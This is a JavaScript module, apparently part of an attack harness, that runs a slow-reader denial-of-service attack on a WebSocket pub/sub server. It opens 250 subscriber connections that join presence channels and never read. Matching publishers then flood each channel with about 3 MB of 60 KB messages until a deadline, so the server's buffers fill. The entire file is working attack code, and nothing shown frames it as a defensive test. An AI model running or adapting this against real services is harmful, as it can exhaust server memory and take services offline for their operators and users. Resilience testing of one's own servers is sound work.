// Readers that do not read, and somebody who writes to each of them.
import { frame, many, pour, webSocket } from './wire.mjs'

const READERS = 250
const EACH_BYTES = 3_000_000
const MESSAGE_BYTES = 60_000

/** What a client says to join a room. @param {number} index */
export const joining = (index) =>
  JSON.stringify({
    op: 'sub',
    id: 1,
    channel: `presence-stall-${index}`,
    auth: { data: { name: `stalled ${index}` } },
  })

/**
 * Each of the readers has a publisher of its own, in a room of their own.
 *
 * @param {import('../attacks/index.mjs').Place} place
 * @param {(index: number) => Promise<unknown>} reader - joins its room, and then reads nothing
 */
export async function stallAll(place, reader) {
  const data = 'x'.repeat(MESSAGE_BYTES)
  const until = Date.now() + place.seconds * 1_000
  await many(READERS, reader)
  const publishers = await many(READERS, async (index) => {
    const socket = await webSocket(place, { index: READERS + index })
    socket.write(frame(joining(index)))
    return socket
  })
  let open = publishers.map((socket, index) => ({
    socket,
    left: EACH_BYTES / MESSAGE_BYTES,
    said: frame(JSON.stringify({ op: 'pub', channel: `presence-stall-${index}`, event: 'e', data })),
  }))
  while (Date.now() < until && open.length > 0) {
    for (const one of open)
      await pour(one.socket, until, () =>
        one.left % 10 > 0 || one.left-- > 0 ? (one.left--, one.said) : undefined,
      )
    open = open.filter(({ left, socket }) => left > 0 && socket.writable)
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
}
